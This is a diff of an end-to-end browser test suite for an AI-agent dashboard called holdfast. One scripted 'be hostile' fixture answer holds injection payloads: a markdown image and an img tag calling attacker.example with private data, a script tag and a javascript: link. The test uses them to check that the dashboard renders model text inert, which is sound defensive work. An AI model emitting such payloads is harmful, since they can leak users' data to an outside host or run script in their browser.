@@ -3,16 +3,40 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import type { BrowserContext, Page, WebSocketRoute } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import type { ScenarioInput } from '../../src/simulator/scenario.ts';
+import { createWorld, type World } from '../../src/testing/world.ts';
 import { findChromium, launchBrowser, overflowOf, seriousFindings, type TestBrowser, watchPage } from './browser.ts';
-import { buildDashboard, type Product, startProduct } from './product.ts';
+import { buildDashboard } from './build-dashboard.ts';
 
 const chromiumPath = await findChromium();
 if (!chromiumPath) console.log('dashboard: skipped, because no chromium is on the PATH (Debian: apt install chromium)');
 
+/** What the guided tour does not do. */
+const SCRIPTS: ScenarioInput = {
+  name: 'dashboard',
+  rules: [
+    // Messages without an answer stand in the next request too, so the later message's rule comes first.
+    {
+      when: { request: 'be hostile' },
+      answer: {
+        text: 'Look: ![chart](https://attacker.example/?q=private) <img src="https://attacker.example/2"> <script>document.title = "owned"</script> [run](javascript:alert(1))',
+      },
+    },
+    {
+      when: { request: 'use the wrong key' },
+      answer: { fault: { type: 'http', status: 401, message: 'Incorrect API key provided.' } },
+    },
+    {
+      when: { request: 'count slowly' },
+      answer: { text: 'one two three four five six seven eight nine ten '.repeat(40), chunkChars: 4, paceMs: 25 },
+    },
+  ],
+};
+
 /** The real product (vault, simulator, host, bubblewrap) driven through its page, as its owner would. */
 describe.skipIf(!chromiumPath)('the dashboard', () => {
   let folder: string;
-  let product: Product;
+  let world: World;
   let browser: TestBrowser;
   let context: BrowserContext;
   let page: Page;
@@ -27,8 +51,8 @@ describe.skipIf(!chromiumPath)('the dashboard', () => {
     await writeFile(join(folder, 'notes/plan.md'), '# Plan\n');
     await writeFile(join(folder, 'numbers.csv'), 'a,b\n1,2\n');
     await buildDashboard();
-    product = await startProduct();
-    const { sandbox } = await product.host.control.status();
+    world = await createWorld({ scenarios: [SCRIPTS] });
+    const { sandbox } = await world.host.control.status();
     hasSandbox = sandbox.available;
     if (!hasSandbox)
       console.log(`dashboard: the worker's job is skipped, because there is no sandbox (${sandbox.reason})`);
@@ -39,11 +63,11 @@ describe.skipIf(!chromiumPath)('the dashboard', () => {
       socket.connectToServer();
       sockets.push(socket);
     });
-    watch = watchPage(page, product.url);
+    watch = watchPage(page, world.host.api.url);
   }, 120_000);
   afterAll(async () => {
     await browser?.[Symbol.asyncDispose]();
-    await product?.[Symbol.asyncDispose]();
+    await world?.[Symbol.asyncDispose]();
     await rm(folder, { recursive: true, force: true });
   });
 
@@ -51,25 +75,26 @@ describe.skipIf(!chromiumPath)('the dashboard', () => {
     await page.locator('[data-composer]').fill(text);
     await page.keyboard.press('Enter');
   };
+  const loginLink = async (): Promise<string> => (await world.host.api.createLoginLink()).url;
   const prose = (text: string | RegExp) => page.locator('.prose', { hasText: text }).first();
   const turns = () => page.locator('article');
 
   it('lets nobody in without a login and says how to get in', async () => {
     const stranger = await browser.newContext();
     const visit = await stranger.newPage();
-    expect((await visit.goto(product.url))?.status()).toBe(401);
+    expect((await visit.goto(world.host.api.url))?.status()).toBe(401);
     await visit.getByText('holdfast dashboard').waitFor();
     await stranger.close();
   });
 
   it('opens by a link that works once', async () => {
-    const link = await product.loginLink();
+    const link = await loginLink();
     await page.goto(link);
     await page.getByText('Simulator: scripted answers, no AI.').waitFor();
     const second = await browser.newContext();
     const visit = await second.newPage();
     await visit.goto(link);
-    await visit.goto(product.url);
+    await visit.goto(world.host.api.url);
     expect(await visit.locator('[data-composer]').count()).toBe(0);
     await second.close();
   });
@@ -97,11 +122,35 @@ describe.skipIf(!chromiumPath)('the dashboard', () => {
     expect(await turns().count()).toBe(2);
   });
 
+  it('stops an answer when the user says so', async () => {
+    await say('count slowly');
+    await page.getByText('one two three').first().waitFor();
+    await page.getByRole('button', { name: 'Stop' }).click();
+    await turns().last().getByText('Stopped').waitFor();
+    await page.getByRole('button', { name: 'Stop' }).waitFor({ state: 'detached' });
+  });
+
+  it('names the error of a failed answer and what to do', async () => {
+    await say('use the wrong key');
+    const alert = turns().last().getByRole('alert');
+    await alert.getByText('model.auth').waitFor();
+    expect(await alert.locator('p').count()).toBe(2);
+  });
+
+  it('lets no text of a model act, load or lead to a script', async () => {
+    await say('be hostile');
+    const answer = turns().last().locator('.prose');
+    await answer.getByRole('link', { name: 'image: chart' }).waitFor();
+    await answer.getByText('<script>').waitFor();
+    expect(await answer.locator('img, script, [href^="javascript"]').count()).toBe(0);
+    expect(await page.title()).toContain('Holdfast');
+  });
+
   it('shows who answered a question elsewhere', async () => {
     await say(`look through ${folder}`);
     await page.getByRole('button', { name: 'Allow', exact: true }).waitFor();
-    const [approval] = await product.host.control.approvals('pending');
-    await product.host.control.decideApproval(approval?.id ?? '', 'deny', { id: 'ada', surface: 'cli' });
+    const [approval] = await world.host.control.approvals('pending');
+    await world.host.control.decideApproval(approval?.id ?? '', 'deny', { id: 'ada', surface: 'cli' });
     await page.getByText('Denied by ada (cli)').waitFor();
     await prose('nothing was read').waitFor();
   });
@@ -135,12 +184,12 @@ describe.skipIf(!chromiumPath)('the dashboard', () => {
 
   it('comes back by itself after a lost connection, and shows everything once', async () => {
     const before = await turns().count();
-    const session = (await product.host.control.sessions('operator'))[0];
+    const session = (await world.host.control.sessions('operator'))[0];
     const lost = sockets.length;
     const principal = { id: 'owner', surface: 'cli' };
     await sockets.at(-1)?.close({ code: 1_012 });
     const text = { text: 'hello from the terminal', ...(session ? { sessionId: session.id } : {}) };
-    await product.host.control.send('operator', text, principal);
+    await world.host.control.send('operator', text, principal);
     await turns().nth(before).getByText('Timeline').last().waitFor();
     expect(sockets.length).toBeGreaterThan(lost);
     expect(await turns().count()).toBe(before + 1);
@@ -180,19 +229,19 @@ describe.skipIf(!chromiumPath)('the dashboard', () => {
     await page.getByRole('button', { name: 'Create token' }).click();
     const token = await page.getByRole('dialog').locator('code').innerText();
     const bearer = { headers: { authorization: `Bearer ${token}` } };
-    expect((await fetch(`${product.url}/api/agents`, bearer)).status).toBe(200);
+    expect((await fetch(`${world.host.api.url}/api/agents`, bearer)).status).toBe(200);
     await page.getByRole('button', { name: 'Done' }).click();
     expect(await page.getByText(token).count()).toBe(0);
     await page.getByRole('button', { name: 'Revoke backup script' }).click();
     await page.getByRole('dialog').getByRole('button', { name: 'Revoke' }).click();
     await page.getByText('No tokens yet.').waitFor();
-    expect((await fetch(`${product.url}/api/agents`, bearer)).status).toBe(401);
+    expect((await fetch(`${world.host.api.url}/api/agents`, bearer)).status).toBe(401);
   });
 
   it('opens a timeline to arguments, decision and output', async (test) => {
     test.skip(!hasSandbox, 'no sandbox on this machine');
-    const worker = (await product.host.control.runs({ limit: 50 })).find((run) => run.kind === 'worker');
-    await page.goto(`${product.url}/runs/${worker?.parentRunId}`);
+    const worker = (await world.host.control.runs({ limit: 50 })).find((run) => run.kind === 'worker');
+    await page.goto(`${world.host.api.url}/runs/${worker?.parentRunId}`);
     await page
       .getByRole('button', { name: /^run_command/ })
       .first()
@@ -209,11 +258,11 @@ describe.skipIf(!chromiumPath)('the dashboard', () => {
     it(`is accessible and fits: ${colorScheme}, ${width} px`, async () => {
       const own = await browser.newContext({ colorScheme, viewport: { width, height: 740 }, bypassCSP: true });
       const visit = await own.newPage();
-      await visit.goto(await product.loginLink());
+      await visit.goto(await loginLink());
       await visit.locator('h1').first().waitFor();
-      const [run] = await product.host.control.runs({ limit: 1 });
+      const [run] = await world.host.control.runs({ limit: 1 });
       for (const path of ['/', '/agents', '/runs', `/runs/${run?.id}`, '/budget', '/status', '/nowhere']) {
-        await visit.goto(product.url + path);
+        await visit.goto(world.host.api.url + path);
         await visit.locator('h1').first().waitFor();
         await visit.locator('.skeleton').first().waitFor({ state: 'detached' });
         expect(await seriousFindings(visit), `${path} in ${colorScheme}`).toEqual([]);
@@ -224,7 +273,7 @@ describe.skipIf(!chromiumPath)('the dashboard', () => {
   }
 
   it('ends the login', async () => {
-    await page.goto(`${product.url}/status`);
+    await page.goto(`${world.host.api.url}/status`);
     await page.getByRole('button', { name: 'Sign out' }).click();
     await page.getByText('holdfast dashboard').waitFor();
   });
